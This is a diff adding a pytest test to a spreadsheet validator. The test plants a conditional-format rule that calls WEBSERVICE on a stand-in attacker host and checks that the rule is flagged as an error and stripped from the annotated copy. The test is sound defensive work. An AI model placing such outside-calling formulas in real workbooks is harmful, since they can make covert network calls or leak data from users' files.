@@ -439,3 +439,18 @@ def test_merged_cells_over_an_input_in_an_ods(base, tmp_path):
     v = validate_returns(base[0], [tmp_path / "r"])
     [f] = [f for f in v.findings if f.code == "T017"]
     assert f.cell == "G3" and "«80»" in f.message and "«100»" in f.message
+
+
+def test_a_conditional_format_calling_outside_is_a_located_error_and_dropped_from_the_annotated_copy(base, tmp_path):
+    from openpyxl.formatting.rule import FormulaRule
+    good = _copy_good(base, tmp_path / "r", ("S01",))
+    wb = openpyxl.load_workbook(good["S01"])
+    wb["Fasi"].conditional_formatting.add("C2", FormulaRule(formula=['LEN(WEBSERVICE("http://evil.example"))>0']))
+    wb.save(good["S01"])
+    v = validate_returns(base[0], [tmp_path / "r"])
+    [f] = [f for f in v.findings if f.code == "T018"]
+    assert (f.sheet, f.cell, f.severity) == ("Fasi", "C2", ERROR) and "WEBSERVICE" in f.message
+    [copy] = annotate_files(v.findings, tmp_path / "annotati")
+    back = openpyxl.load_workbook(copy)
+    texts = [str(x) for cf in back["Fasi"].conditional_formatting for r in cf.rules for x in (r.formula or [])]
+    assert texts and not [t for t in texts if "WEBSERVICE" in t]    # the template's own rules stay
